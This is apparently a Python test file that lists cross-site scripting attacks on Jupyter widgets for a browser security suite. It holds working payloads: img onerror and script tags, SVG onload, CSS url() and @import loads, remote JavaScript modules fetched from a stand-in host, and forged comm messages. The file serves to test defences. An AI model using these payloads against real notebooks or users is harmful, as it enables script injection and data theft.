"""Widgets, and the comm messages behind them."""

# ruff: noqa: E501 - what an attack says is easier to read in one piece

import json
from typing import Any

from tests.browser.attacks.attack import LIVE, SAVED, Attack

_IMG = '<img src=x: onerror="@JS@">'
_FAR = "@HOST@/@MARK@"
_BASE, _CONTROLS = "@jupyter-widgets/base", "@jupyter-widgets/controls"


def _model(
    name: str, view: str, module: str = _CONTROLS, version: str = "2.0.0", **state: Any
) -> str:
    """Return code that opens a comm of a widget by hand and displays it."""
    whole = {
        "_model_name": name,
        "_model_module": module,
        "_model_module_version": version,
        "_view_name": view,
        "_view_module": module,
        "_view_module_version": version,
        **state,
    }
    return (
        "from comm import create_comm\nfrom IPython.display import display\nimport json\n"
        f"state = json.loads({json.dumps(json.dumps(whole))})\n"
        "made = create_comm(target_name='jupyter.widget', data={'state': state}, "
        "metadata={'version': '2.1.0'})\n"
        "display({'application/vnd.jupyter.widget-view+json': {'model_id': made.comm_id, "
        "'version_major': 2, 'version_minor': 0}, 'text/plain': 'x'}, raw=True)"
    )


def _widgets(code: str) -> str:
    return "import ipywidgets as widgets\nfrom IPython.display import display, HTML\n" + code


ATTACKS = (
    Attack(
        "widget-html", "HTML of a widget", _widgets(f"display(widgets.HTML('''{_IMG}'''))"), SAVED
    ),
    Attack(
        "widget-update",
        "HTML of a widget, set later",
        _widgets("late = widgets.HTML('')\ndisplay(late)"),
        SAVED,
        then=(f"late.value = '''{_IMG}'''",),
    ),
    Attack(
        "widget-math",
        "formulas of a widget",
        _widgets(f"display(widgets.HTMLMath('''{_IMG} $x$'''))"),
        SAVED,
    ),
    Attack(
        "widget-label", "the text of a label", _widgets(f"display(widgets.Label('''{_IMG}'''))")
    ),
    Attack(
        "widget-description",
        "HTML allowed in a description",
        _widgets(
            f"display(widgets.IntSlider(description='''{_IMG}''', description_allow_html=True))"
        ),
        frozenset(),
    ),
    Attack(
        "widget-options",
        "HTML in options, titles and tooltips",
        _widgets(
            f"x = '''{_IMG}'''\ndisplay(widgets.Dropdown(options=[x]), widgets.ToggleButtons(options=[x], tooltips=[x]), widgets.RadioButtons(options=[x]), widgets.Tab([widgets.Label()], titles=[x]), widgets.Accordion([widgets.Label()], titles=[x]), widgets.Button(description=x, tooltip=x, icon=x), widgets.TagsInput(value=[x]), widgets.Valid(readout=x), widgets.Combobox(options=[x]))"
        ),
    ),
    Attack(
        "widget-placeholder",
        "HTML in a placeholder and a description's style",
        _widgets(
            f"display(widgets.HTML(value='', placeholder='''{_IMG}''', description='''{_IMG}''', description_allow_html=True))"
        ),
        frozenset(),
    ),
    Attack(
        "widget-output",
        "an Output widget that captures a script",
        _widgets(
            "box = widgets.Output()\ndisplay(box)\nwith box:\n    display(HTML('''<script>@JS@</script>'''))"
        ),
        SAVED,
    ),
    Attack(
        "widget-outputs",
        "the state of an Output widget",
        _widgets(
            "display(widgets.Output(outputs=[{'output_type': 'display_data', 'data': {'text/html': '''<script>@JS@</script>'''}, 'metadata': {}}]))"
        ),
        SAVED,
    ),
    Attack(
        "widget-append",
        "append_display_data of an Output widget",
        _widgets(
            "box = widgets.Output()\ndisplay(box)\nbox.append_display_data(HTML('''<script>@JS@</script>'''))"
        ),
        SAVED,
    ),
    Attack(
        "widget-image",
        "a picture widget whose value is an address",
        _widgets(f"display(widgets.Image(value=b'{_FAR}/image', format='url'))"),
        SAVED,
    ),
    Attack(
        "widget-media",
        "video and audio widgets whose values are addresses",
        _widgets(
            f"display(widgets.Video(value=b'{_FAR}/video', format='url'), widgets.Audio(value=b'{_FAR}/audio', format='url'))"
        ),
        SAVED,
    ),
    Attack(
        "widget-format",
        "a picture widget whose format is SVG with script",
        _widgets(
            "display(widgets.Image(value=b'''<svg xmlns='http://www.w3.org/2000/svg' onload=\"@JS@\"/>''', format='svg+xml'), widgets.Image(value=b'x', format='''png\" onerror=\"@JS@'''))"
        ),
    ),
    Attack(
        "widget-layout",
        "a layout that loads",
        _model("LayoutModel", "LayoutView", _BASE, border_top=f"1px solid;background:url({_FAR}/b)")
        + f"\nimport ipywidgets\nit = ipywidgets.Label('x')\nit.comm.send(data={{'method': 'update', 'state': {{}}, 'buffer_paths': []}})\nit.layout.comm.send(data={{'method': 'update', 'state': {{'grid_area': 'x', 'object_position': 'url({_FAR}/layout)', 'border_top': 'url({_FAR}/top)', 'visibility': 'url({_FAR}/v)'}}, 'buffer_paths': []}})\ndisplay(it)",
    ),
    Attack(
        "widget-style",
        "a style that loads",
        _widgets(
            f"it = widgets.Button(description='x')\ndisplay(it)\nit.style.comm.send(data={{'method': 'update', 'state': {{'button_color': 'url({_FAR}/button)'}}, 'buffer_paths': []}})\nlabel = widgets.Label('x')\ndisplay(label)\nlabel.style.background = 'url({_FAR}/background)'"
        ),
        SAVED,
    ),
    Attack(
        "widget-forged",
        "a comm opened by hand, without ipywidgets",
        _model("HTMLModel", "HTMLView", value=_IMG),
        LIVE,
    ),
    Attack(
        "widget-message",
        "an update sent by hand",
        _model("HTMLModel", "HTMLView", value=""),
        LIVE,
        then=(
            f"made.send(data={{'method': 'update', 'state': {{'value': '''{_IMG}'''}}, 'buffer_paths': []}})",
        ),
    ),
    Attack(
        "widget-echo",
        "an update dressed up as the echo of the frontend's own",
        _model("HTMLModel", "HTMLView", value=""),
        LIVE,
        then=(
            f"made.send(data={{'method': 'echo_update', 'state': {{'value': '''{_IMG}'''}}, 'buffer_paths': []}})",
        ),
    ),
    Attack(
        "widget-link",
        "a link between widgets that makes text to HTML",
        _widgets(
            f"text = widgets.Text('''{_IMG}''')\npage = widgets.HTML('')\ndisplay(text, page)\nkept = widgets.jslink((text, 'value'), (page, 'value'))"
        ),
        SAVED,
    ),
    Attack(
        "widget-link-allow",
        "a link that allows HTML in a description",
        _widgets(
            f"box = widgets.Checkbox(True)\nit = widgets.Text(description='''{_IMG}''')\ndisplay(box, it)\nkept = widgets.jsdlink((box, 'value'), (it, 'description_allow_html'))"
        ),
        frozenset(),
    ),
    Attack(
        "widget-link-image",
        "a link that makes text to a picture's address",
        _widgets(
            f"text = widgets.Text('url')\npicture = widgets.Image(value=b'{_FAR}/linked', format='png')\ndisplay(text, picture)\nkept = widgets.jslink((text, 'value'), (picture, 'format'))"
        ),
        SAVED,
    ),
    Attack(
        "widget-module",
        "a model of a module from elsewhere",
        _model("M", "V", f"{_FAR}/module.js", "1"),
    ),
    Attack(
        "widget-cdn",
        "a model of a package that a loader fetches",
        _model("M", "V", "pwned-package", f"{_FAR}/"),
    ),
    Attack(
        "anywidget",
        "JavaScript of a widget",
        _model(
            "AnyModel",
            "AnyView",
            "anywidget",
            "~0.11.*",
            _esm="export default {render() {@JS@}}",
            _anywidget_id="x",
        ),
        LIVE,
    ),
    Attack(
        "anywidget-css",
        "a style sheet of a widget",
        _model(
            "AnyModel",
            "AnyView",
            "anywidget",
            "~0.11.*",
            _esm="export default {render() {}}",
            _css=f"@import url({_FAR}/any.css);",
            _anywidget_id="y",
        ),
        LIVE,
    ),
    Attack(
        "anywidget-url",
        "a widget whose code is elsewhere",
        _model(
            "AnyModel", "AnyView", "anywidget", "~0.11.*", _esm=f"{_FAR}/any.js", _anywidget_id="z"
        ),
        LIVE,
    ),
    Attack(
        "comm-target",
        "comms to targets of other extensions",
        "from comm import create_comm\nfor name in ('jupyter.widget.version', 'jupyter.widget.control', 'jupyterlab', 'hv-extension-comm', 'ipympl', 'plotly', 'import', '__proto__', 'toString'):\n    create_comm(target_name=name, data={'code': '''@JS@''', 'html': '''<script>@JS@</script>'''})",
        LIVE,
    ),
    Attack(
        "comm-module",
        "a comm that names a module to load",
        "from comm import create_comm\nfrom comm.base_comm import BaseComm\nget_ipython().kernel.iopub_thread\nget_ipython().kernel.session.send(get_ipython().kernel.iopub_socket, 'comm_open', {'comm_id': 'pwned', 'target_name': 'x', 'target_module': '@HOST@/@MARK@/target.js', 'data': {}}, parent=get_ipython().kernel.get_parent())",
    ),
)
